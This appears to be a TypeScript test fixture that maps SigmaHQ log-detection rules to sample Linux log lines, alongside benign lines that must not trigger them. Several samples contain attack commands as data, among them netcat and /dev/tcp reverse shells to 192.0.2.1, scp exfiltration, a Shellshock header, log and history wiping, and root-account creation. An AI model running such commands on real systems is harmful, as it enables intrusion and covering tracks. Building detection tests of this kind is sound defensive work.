// Stand-ins for SigmaHQ's rules about logs: for each rule a line as the program writes it. TOKEN becomes a word of the test's own.

/** The file of a test that a line goes to, by what Debian would put into it. */
export type LogFile = "auth.log" | "syslog" | "vsftpd.log" | "clamav.log";

export interface LogLineStandIn {
  /** Id of the rule. */
  readonly id: string;
  readonly file: LogFile;
  /** After the time and the host. */
  readonly text: string;
}

const line = (id: string, file: LogFile, text: string): LogLineStandIn => ({ id, file, text });

export const standIns: readonly LogLineStandIn[] = [
  line(
    "1edd77db-0669-4fef-9598-165bda82826d",
    "syslog",
    'guacd[7]: User "@TOKEN" joined connection "$1" (2 users now present)',
  ),
  line("36aa86ca-fd9d-4456-814e-d3b1b8e1e0bb", "clamav.log", "/srv/TOKEN.exe: Win.Trojan.Agent-1 FOUND"),
  line(
    "fdc88d25-96fb-4b7c-9633-c0e417fdbd4e",
    "auth.log",
    "sudo:    eve : TTY=pts/0 ; PWD=/TOKEN ; USER=root ; COMMAND=/usr/bin/rm /root/.bash_history /x_sh_history rm .sh_history",
  ),
  line(
    "377f33a1-4b36-4ee1-acee-1dbe4b43cfbe",
    "vsftpd.log",
    '[pid 3] [TOKEN] FTP response: Client "192.0.2.1", "500 Input line too long."',
  ),
  line(
    "c8e35e96-19ce-4f16-aeb6-fd5588dc5365",
    "syslog",
    "named[9]: client 192.0.2.1#53 (TOKEN.test): zone transfer denied AXFR from 192.0.2.1",
  ),
  line("49f5dfc1-f92e-4d34-96fa-feba3f6acf36", "syslog", "init-TOKEN[1]: stopping iptables"),
  line("af202fd3-7bff-4212-a25a-fb34606cfcbe", "syslog", "crontab[4]: (TOKEN) REPLACE (TOKEN)"),
  line(
    "e09eb557-96d2-4de9-ba2d-30f712a5afd3",
    "auth.log",
    "sudo:    eve : TTY=pts/0 ; PWD=/TOKEN ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/syslog",
  ),
  line("6cc5fceb-9a71-4c23-aeeb-963abe0b279c", "syslog", "httpd[5]: TOKEN: sh: exec 3<>/dev/tcp/192.0.2.1/80"),
  line("c67e0c98-4d39-46ee-8f6b-437ebf6b950e", "syslog", "httpd[5]: TOKEN User-Agent: () { :; }; /bin/true"),
  line("e76b413a-83d0-4b94-8e4c-85db4a5b8bdc", "auth.log", "sshd[6]: error: TOKEN Corrupted MAC on input. [preauth]"),
  line("738d9bcf-6999-4fdb-b4ac-3033037db8ab", "syslog", "bash[8]: TOKEN nc -e /bin/sh 192.0.2.1 4444"),
  line("7a14080d-a048-4de8-ae58-604ce58a795b", "syslog", "bash[8]: scp TOKEN eve@192.0.2.1:/tmp"),
  line("c67fc22a-0be5-4b4f-aad5-2b32c4b69523", "syslog", "bash[8]: ln -s /etc/passwd TOKEN"),
  line("41e5c73d-9983-4b69-bd03-e13b67e9623c", "syslog", "bash[8]: TOKEN ; chmod 700 sendmail"),
  line(
    "8ec2c8b4-557a-4121-b87c-5dfb3a602fae",
    "syslog",
    "java[8]: TOKEN bash -c /bin/bash$IFS-i>&/dev/tcp/192.0.2.1/80",
  ),
  line(
    "0fadd880-6af3-4610-b1e5-008dc3a11b8a",
    "syslog",
    "kernel: [ 5.1] TOKEN[7] is installing a program with bpf_probe_write_user helper that may corrupt user memory!",
  ),
  line(
    "7e3c4651-c347-40c4-b1d4-d48590fdf684",
    "auth.log",
    "sudo:    eve : TTY=pts/0 ; PWD=/TOKEN ; USER=root ; COMMAND=/usr/bin/tee /etc/ld.so.preload",
  ),
  line(
    "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695",
    "auth.log",
    "sudo:    eve : TTY=pts/0 ; PWD=/TOKEN ; USER=root ; COMMAND=/usr/bin/chmod u+s /tmp/x",
  ),
  line("18b042f0-2ecd-4b6e-9f8d-aa7a7e7de781", "syslog", "TOKEN: *** stack smashing detected ***: terminated"),
  line(
    "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e",
    "auth.log",
    "useradd[1337]: new user: name=TOKEN, UID=0, GID=0, home=/home/x, shell=/bin/bash",
  ),
  line("f64b6e9a-5d9d-48a5-8289-e1dd2b3876e1", "syslog", "kernel: [ 5.2] device TOKEN entered promiscuous mode"),
  line(
    "7fcc54cb-f27d-4684-84b7-436af096f858",
    "auth.log",
    "sudo:    eve : TTY=pts/0 ; PWD=/TOKEN ; USER=#-1 ; COMMAND=/usr/bin/id",
  ),
  line("8b244735-5833-4517-a45b-28d8c63924c0", "auth.log", "sshd[6]: TOKEN Failed to generate curve25519 keys"),
  line(
    "4c9d903d-4939-4094-ade0-3cb748f4d7da",
    "auth.log",
    "sshd[6]: error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth] TOKEN",
  ),
  line(
    "0506a799-698b-43b4-85a1-ac4c84c720e9",
    "auth.log",
    "pkexec[6]: TOKEN: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/x]",
  ),
  line(
    "7ba05b43-adad-4c02-b5e9-c8c35cdf9fa8",
    "syslog",
    "networkd-dispatcher[6]: ERROR:Error handling notification for interface TOKEN entering operational state ../../tmp/x",
  ),
];

/** What a quiet host writes: none of the rules may fire on it. */
export const quietLines: readonly (readonly [file: LogFile, text: string])[] = [
  ["auth.log", "sshd[1]: Accepted publickey for alice from 192.0.2.7 port 50000 ssh2: ED25519 SHA256:abc"],
  ["auth.log", "sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update"],
  ["auth.log", "systemd-logind[1]: New session 5 of user alice."],
  ["auth.log", "useradd[5]: new user: name=alice, UID=1000, GID=1000, home=/home/alice, shell=/bin/bash"],
  ["syslog", "CRON[9]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"],
  ["syslog", "systemd[1]: Started session-5.scope - Session 5 of User alice."],
  ["syslog", "kernel: [ 7.0] eth0: link up"],
  ["vsftpd.log", '[pid 3] CONNECT: Client "192.0.2.1"'],
  ["clamav.log", "SelfCheck: Database status OK."],
];
